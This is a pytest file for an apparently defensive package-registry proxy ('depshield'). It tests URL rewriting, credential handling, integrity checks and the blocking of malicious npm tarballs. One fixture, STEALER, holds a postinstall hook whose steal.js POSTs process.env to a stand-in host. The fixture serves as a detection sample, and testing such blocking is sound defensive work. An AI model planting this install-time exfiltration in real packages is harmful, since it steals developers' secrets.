"""The proxy in-process (Starlette's test client) in front of a loopback registry: rewriting,
credentials, integrity, tokens and one analysis per artifact, without starting real clients."""

from __future__ import annotations

import concurrent.futures as cf
import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient
from support.registry_server import RegistryServer, make_tgz, sri

from depshield.proxy.app import create_app
from depshield.proxy.settings import ProxySettings

CLEAN = {"package.json": b'{"name": "tiny", "version": "1.0.0", "main": "index.js"}',
         "index.js": b"module.exports = function add(a, b) { return a + b }\n"}  # fmt: skip
STEALER = {
    "package.json": b'{"name": "tiny", "version": "2.0.0", "scripts": {"postinstall": '
    b'"node steal.js"}}',
    "steal.js": b"const https = require('https')\n"
    b"https.request({ hostname: 'collector.example.invalid', method: 'POST' })"
    b".end(JSON.stringify(process.env))\n",
}


def publish(server: RegistryServer, versions: dict[str, dict[str, bytes]]) -> dict[str, bytes]:
    doc: dict[str, Any] = {"name": "tiny", "versions": {}, "dist-tags": {}}
    tarballs = {}
    for version, files in versions.items():
        tgz = make_tgz(files)
        tarballs[version] = tgz
        path = f"/tiny/-/tiny-{version}.tgz"
        server.bytes(path, tgz)
        doc["versions"][version] = {
            "name": "tiny",
            "version": version,
            "dist": {"tarball": server.url + path[1:], "integrity": sri(tgz)},
        }
    server.json("/tiny", doc)
    return tarballs


@pytest.fixture
def settings(tmp_path: Path, registry_server: RegistryServer) -> ProxySettings:
    return ProxySettings(
        npm_upstream=registry_server.url,
        pypi_upstream=registry_server.url + "simple/",
        home=tmp_path / "home",
    )


@pytest.fixture
def client(settings: ProxySettings) -> Iterator[TestClient]:
    with TestClient(create_app(settings), base_url="http://proxy.example.invalid") as c:
        yield c


def test_packument_tarball_urls_point_at_the_proxy(client: TestClient, registry_server) -> None:
    publish(registry_server, {"1.0.0": CLEAN})
    doc = client.get("/npm/tiny").json()
    assert doc["versions"]["1.0.0"]["dist"]["tarball"] == (
        "http://proxy.example.invalid/npm/tiny/-/tiny-1.0.0.tgz"
    )


def test_clean_tarball_is_served_byte_for_byte(client: TestClient, registry_server) -> None:
    tarballs = publish(registry_server, {"1.0.0": CLEAN})
    reply = client.get("/npm/tiny/-/tiny-1.0.0.tgz")
    assert reply.status_code == 200
    assert reply.content == tarballs["1.0.0"]
    assert reply.headers["x-depshield-verdict"] in ("pass", "monitor")


def test_block_is_a_403_whose_error_names_type_file_and_line(
    client: TestClient, registry_server
) -> None:
    publish(registry_server, {"2.0.0": STEALER})
    reply = client.get("/npm/tiny/-/tiny-2.0.0.tgz")
    assert reply.status_code == 403
    error = reply.json()["error"]
    assert error.startswith("depshield blocked npm:tiny@2.0.0: dataExfiltration (steal.js:2)")
    assert "[[ignore]]" in error


def test_tampered_tarball_is_refused_not_served(client: TestClient, registry_server) -> None:
    publish(registry_server, {"1.0.0": CLEAN})
    registry_server.bytes("/tiny/-/tiny-1.0.0.tgz", make_tgz(STEALER))  # other bytes, same URL
    reply = client.get("/npm/tiny/-/tiny-1.0.0.tgz")
    assert reply.status_code == 403
    assert "does not match its sha512 integrity" in reply.json()["error"]


def test_the_clients_credentials_reach_the_upstream(client: TestClient, registry_server) -> None:
    publish(registry_server, {"1.0.0": CLEAN})
    auth = {"Authorization": "Bearer private-registry-token"}
    assert client.get("/npm/tiny/-/tiny-1.0.0.tgz", headers=auth).status_code == 200
    sent = {s.path: s.headers.get("Authorization") for s in registry_server.seen}
    assert sent["/tiny"] == "Bearer private-registry-token"
    assert sent["/tiny/-/tiny-1.0.0.tgz"] == "Bearer private-registry-token"


def test_a_cached_artifact_still_needs_the_requesters_own_access(
    client: TestClient, registry_server
) -> None:
    publish(registry_server, {"1.0.0": CLEAN})
    assert client.get("/npm/tiny/-/tiny-1.0.0.tgz").status_code == 200
    from support.registry_server import Reply

    registry_server.route("/tiny", Reply(401, b'{"error":"login first"}'))
    other = client.get("/npm/tiny/-/tiny-1.0.0.tgz", headers={"Authorization": "Bearer other"})
    assert other.status_code == 401  # the upstream's answer, not the copy fetched before


def test_concurrent_requests_for_one_tarball_cause_one_analysis(
    client: TestClient, registry_server
) -> None:
    publish(registry_server, {"1.0.0": CLEAN})
    with cf.ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(lambda _: client.get("/npm/tiny/-/tiny-1.0.0.tgz"), range(8)))
    assert {r.status_code for r in replies} == {200}
    assert client.get("/-/depshield/status").json()["analyses_run"] == 1
    downloads = [p for p in registry_server.paths() if p.endswith(".tgz")]
    assert len(downloads) == 1


def test_token_is_required_and_never_forwarded(tmp_path: Path, registry_server) -> None:
    publish(registry_server, {"1.0.0": CLEAN})
    settings = ProxySettings(
        npm_upstream=registry_server.url,
        pypi_upstream=registry_server.url + "simple/",
        home=tmp_path / "home",
        token="t" * 24,
    )
    with TestClient(create_app(settings)) as c:
        assert c.get("/npm/tiny").status_code == 401
        assert c.get("/npm/tiny", headers={"Authorization": "Bearer wrong"}).status_code == 401
        ok = c.get("/npm/tiny", headers={"Authorization": "Bearer " + "t" * 24})
        assert ok.status_code == 200
        basic = c.get("/npm/tiny", auth=("anyone", "t" * 24))
        assert basic.status_code == 200
    assert all("Authorization" not in s.headers for s in registry_server.seen)


def test_pypi_page_is_rewritten_and_its_files_gated(client: TestClient, registry_server) -> None:
    from support.packages import make_wheel

    wheel = make_wheel("tiny", "1.0.0", {"tiny/__init__.py": b"VALUE = 1\n"}, [])
    digest = hashlib.sha256(wheel).hexdigest()
    from support.registry_server import Reply

    page = (
        "<html><body><script>alert(1)</script>"
        f'<a href="../../files/tiny-1.0.0-py3-none-any.whl#sha256={digest}" '
        'data-requires-python="&gt;=3.8">tiny-1.0.0-py3-none-any.whl</a></body></html>'
    ).encode()
    registry_server.route("/simple/tiny/", Reply(200, page, {"Content-Type": "text/html"}))
    registry_server.bytes("/files/tiny-1.0.0-py3-none-any.whl", wheel)
    listing = client.get("/pypi/simple/tiny/")
    assert listing.status_code == 200
    assert "<script>" not in listing.text
    assert 'data-requires-python="&gt;=3.8"' in listing.text
    href = (
        f"http://proxy.example.invalid/pypi/files/tiny/tiny-1.0.0-py3-none-any.whl#sha256={digest}"
    )
    assert f'href="{href}"' in listing.text
    reply = client.get("/pypi/files/tiny/tiny-1.0.0-py3-none-any.whl")
    assert reply.status_code == 200
    assert reply.content == wheel


def test_pypi_json_page_is_rewritten(client: TestClient, registry_server) -> None:
    from support.registry_server import Reply

    doc = {"meta": {"api-version": "1.0"}, "name": "tiny", "files": [
        {"filename": "tiny-1.0.0.tar.gz", "url": "/pkgs/tiny-1.0.0.tar.gz",
         "hashes": {"sha256": "00" * 32}}]}  # fmt: skip
    kind = {"Content-Type": "application/vnd.pypi.simple.v1+json"}
    registry_server.route("/simple/tiny/", Reply(200, json.dumps(doc).encode(), kind))
    reply = client.get("/pypi/simple/tiny/", headers={"Accept": kind["Content-Type"]})
    files = reply.json()["files"]
    assert files[0]["url"] == "http://proxy.example.invalid/pypi/files/tiny/tiny-1.0.0.tar.gz"
    assert files[0]["hashes"] == {"sha256": "00" * 32}


def test_listening_beyond_loopback_needs_a_token() -> None:
    from depshield.errors import UsageError
    from depshield.proxy.settings import bind_token

    assert bind_token("127.0.0.1", None) is None
    with pytest.raises(UsageError, match="without a token"):
        bind_token("0.0.0.0", None)
    with pytest.raises(UsageError, match="too short"):
        bind_token("0.0.0.0", "short")
    assert bind_token("0.0.0.0", "x" * 20) == "x" * 20


def test_the_command_refuses_a_public_address_without_a_token(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    env = {**os.environ, "DEPSHIELD_HOME": str(tmp_path), "DEPSHIELD_PROXY_TOKEN": ""}
    done = subprocess.run(
        [sys.executable, "-m", "depshield", "proxy", "--host", "0.0.0.0", "--port", "9",
         "--npm-upstream", "http://registry.example.invalid/",
         "--pypi-upstream", "http://registry.example.invalid/simple/"],
        env=env, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 2
    assert "refusing to listen on 0.0.0.0 without a token" in done.stderr
    assert "Tip:" in done.stderr
    assert "Traceback" not in done.stderr


def test_scoped_packages_keep_their_scope(tmp_path: Path, registry_server) -> None:
    tgz = make_tgz(CLEAN)
    registry_server.bytes("/@team/tiny/-/tiny-1.0.0.tgz", tgz)
    doc = {"name": "@team/tiny", "versions": {"1.0.0": {"name": "@team/tiny", "version": "1.0.0",
           "dist": {"tarball": registry_server.url + "@team/tiny/-/tiny-1.0.0.tgz",
                    "integrity": sri(tgz)}}}}  # fmt: skip
    registry_server.json("/@team%2ftiny", doc)
    settings = ProxySettings(registry_server.url, registry_server.url + "simple/", tmp_path / "h")
    with TestClient(create_app(settings), base_url="http://proxy.example.invalid") as c:
        packument = c.get("/npm/@team%2ftiny").json()
        tarball = packument["versions"]["1.0.0"]["dist"]["tarball"]
        assert tarball == "http://proxy.example.invalid/npm/@team/tiny/-/tiny-1.0.0.tgz"
        assert c.get(tarball.removeprefix("http://proxy.example.invalid")).content == tgz


def test_an_ignore_in_the_policy_lets_the_package_through(tmp_path: Path, registry_server) -> None:
    from depshield.policy import Ignore, Policy

    publish(registry_server, {"2.0.0": STEALER})
    policy = Policy(ignores=(Ignore("npm:tiny@2.0.0", reason="our own collector, reviewed"),))
    settings = ProxySettings(registry_server.url, registry_server.url + "simple/",
                             tmp_path / "h", policy=policy)  # fmt: skip
    with TestClient(create_app(settings)) as c:
        assert c.get("/npm/tiny/-/tiny-2.0.0.tgz").status_code == 200


def test_an_artifact_over_the_size_limit_is_refused_with_the_reason(
    tmp_path: Path, registry_server
) -> None:
    publish(registry_server, {"1.0.0": CLEAN})
    settings = ProxySettings(registry_server.url, registry_server.url + "simple/",
                             tmp_path / "h", max_artifact_bytes=64)  # fmt: skip
    with TestClient(create_app(settings)) as c:
        reply = c.get("/npm/tiny/-/tiny-1.0.0.tgz")
    assert reply.status_code == 403
    assert "larger than" in reply.json()["error"] and "tiny" in reply.json()["error"]


def test_json_api_file_urls_point_at_the_proxy(client: TestClient, registry_server) -> None:
    doc = {"info": {"name": "Tiny", "version": "1.0.0"},
           "urls": [{"filename": "tiny-1.0.0.tar.gz", "url": "http://elsewhere.invalid/t.tar.gz"}],
           "releases": {"1.0.0": [{"filename": "tiny-1.0.0.tar.gz",
                                   "url": "http://elsewhere.invalid/t.tar.gz"}]}}  # fmt: skip
    registry_server.json("/pypi/tiny/json", doc)
    data = client.get("/pypi/pypi/tiny/json").json()
    expected = "http://proxy.example.invalid/pypi/files/tiny/tiny-1.0.0.tar.gz"
    assert data["urls"][0]["url"] == expected
    assert data["releases"]["1.0.0"][0]["url"] == expected


def test_status_command_reads_the_audit_log(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    from depshield.proxy.audit import AuditLog, Entry

    log = AuditLog(tmp_path / "proxy" / "audit.sqlite", tmp_path / "proxy" / "audit.jsonl")
    log.record(Entry("127.0.0.1", "npm", "evil", "1.0.0", None, "block", False, "blocked"))
    log.record(Entry("127.0.0.1", "npm", "fine", "1.0.0", None, "pass", True, "pass"))
    log.close()
    done = subprocess.run([sys.executable, "-m", "depshield", "proxy", "--status"],
                          env={**os.environ, "DEPSHIELD_HOME": str(tmp_path)},
                          capture_output=True, text=True, timeout=60, check=True)  # fmt: skip
    status = json.loads(done.stdout)
    assert status["decisions"] == 2 and status["refused"] == 1
    assert status["by_verdict"] == {"block": 1, "pass": 1}
    assert status["last_refused"][0]["name"] == "evil"


def test_concurrent_requests_for_one_document_make_one_upstream_request(
    client: TestClient, registry_server
) -> None:
    publish(registry_server, {"1.0.0": CLEAN})
    with cf.ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(lambda _: client.get("/npm/tiny"), range(8)))
    assert {r.status_code for r in replies} == {200}
    assert registry_server.paths().count("/tiny") == 1
